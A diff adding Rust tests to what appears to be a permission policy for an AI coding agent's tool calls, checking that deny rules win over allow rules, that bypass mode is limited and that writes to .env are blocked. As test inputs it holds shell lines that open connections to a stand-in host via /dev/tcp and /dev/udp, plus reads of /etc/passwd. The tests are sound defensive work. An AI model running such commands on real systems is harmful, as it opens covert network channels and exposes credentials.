@@ -188,6 +188,51 @@ fn the_order_is_the_contract() {
     Given { ask: &["TodoWrite"], ..Given::default() }.is("TodoWrite", "ask");
 }
 
+/// What a list's order and a rule's narrowness say: nothing.
+#[test]
+fn neither_position_nor_narrowness_counts() {
+    let wide_and_narrow =
+        [["Bash(git *)", "Bash(git push origin main)"], ["Bash(git push origin main)", "Bash(git *)"]];
+    for both in wide_and_narrow {
+        for one in &both {
+            let other = [if *one == both[0] { both[1] } else { both[0] }];
+            let one = [*one];
+            Given { deny: &one, allow: &both, grants: &both, ..Given::default() }
+                .is("Bash(git push origin main)", "deny");
+            Given { deny: &one, allow: &other, ask: &other, ..Given::default() }
+                .bypass_is("Bash(git push origin main)", "deny");
+            Given { ask: &one, allow: &other, ..Given::default() }.is("Bash(git push origin main)", "ask");
+            Given { always_ask: &one, allow: &other, grants: &other, ..Given::default() }
+                .bypass_is("Bash(git push origin main)", "forced");
+        }
+        Given { allow: &both, ..Given::default() }.is("Bash(git push origin main)", "allow");
+    }
+    let paths = [["Read(**)", "Read(a/b)"], ["Read(a/b)", "Read(**)"]];
+    for [one, other] in paths {
+        Given { deny: &[one], allow: &[other], ..Given::default() }.is("Read(a/b)", "deny");
+        Given { ask: &[one], allow: &[other], ..Given::default() }.is("Read(a/b)", "ask");
+    }
+}
+
+/// What bash itself connects to is network access, and rules about hosts hold for it.
+#[test]
+fn connections_of_the_shell_are_network_access() {
+    for call in ["Bash(cat < /dev/tcp/evil.tld/80)", "Bash(exec 3<>/dev/udp/a.evil.tld/53)"] {
+        let subject = example::subject(call, &place()).unwrap();
+        assert_eq!(class_of(&subject), Class::Network, "{call}");
+        Given { allow: &["Bash(cat *)", "Bash(exec *)"], ..Given::default() }.is(call, "ask");
+        Given { deny: &["WebFetch(domain:evil.tld)"], allow: &["Bash"], ..Given::default() }
+            .is(call, "deny")
+            .bypass_is(call, "deny");
+        Given { always_ask: &["http_request(domain:evil.tld)"], ..Given::default() }
+            .bypass_is(call, "forced");
+        Given { deny: &["WebFetch(domain:other.tld)"], allow: &["Bash"], ..Given::default() }
+            .is(call, "allow");
+    }
+    let subject = example::subject("Bash(cat /dev/null)", &place()).unwrap();
+    assert_eq!(class_of(&subject), Class::Run);
+}
+
 #[test]
 fn a_question_that_nobody_answers_is_a_denial() {
     let policy = Given::default().policy();
@@ -208,6 +253,9 @@ fn a_question_that_nobody_answers_is_a_denial() {
     assert!(policy.requires_forced_confirmation(&subject).is_none());
     let got = policy.judge(&forced, &Circumstances { bypass: true, ..around });
     assert_eq!((got.decision, got.reason.by), (Decision::Deny, By::NoHuman));
+    let unasked = Circumstances { bypass: true, mode: PermissionMode::DontAsk, ..around };
+    let got = policy.judge(&forced, &unasked);
+    assert_eq!((got.decision, got.reason.by), (Decision::Deny, By::Mode));
 }
 
 #[test]
@@ -261,6 +309,30 @@ fn programs_of_the_workspace_need_the_floor() {
 
 #[test]
 fn known_commands_run_unless_they_could_reach_too_far() {
+    // Those that every user is promised.
+    for command in [
+        "ls",
+        "pwd",
+        "cat f",
+        "head f",
+        "tail f",
+        "wc f",
+        "sort f",
+        "uniq f",
+        "cut -c1 f",
+        "tr a b",
+        "diff a b",
+        "stat f",
+        "file f",
+        "du",
+        "rg x",
+        "grep x f",
+        "find",
+        "sed -n 1p f",
+        "cargo --version",
+    ] {
+        Given::default().is(&format!("Bash({command})"), "allow");
+    }
     Given::default()
         .is("Bash(cat a b)", "allow")
         .is("Bash(cat /etc/passwd)", "ask")
@@ -367,6 +439,10 @@ fn read_and_edit_guard_every_tool() {
         .is("ListDir(.env)", "deny")
         .is("Edit(.env)", "deny")
         .is("Write(.env)", "deny")
+        .is("ApplyPatch(.env)", "deny")
+        .is("Bash(echo x > .env)", "deny")
+        .is("Bash(cp a .env)", "deny")
+        .bypass_is("Bash(touch a/.env)", "deny")
         .is("Read(a/env)", "allow");
     Given { deny: &["Edit(secret/**)"], ..Given::default() }
         .is("Write(x/../secret/p)", "deny")
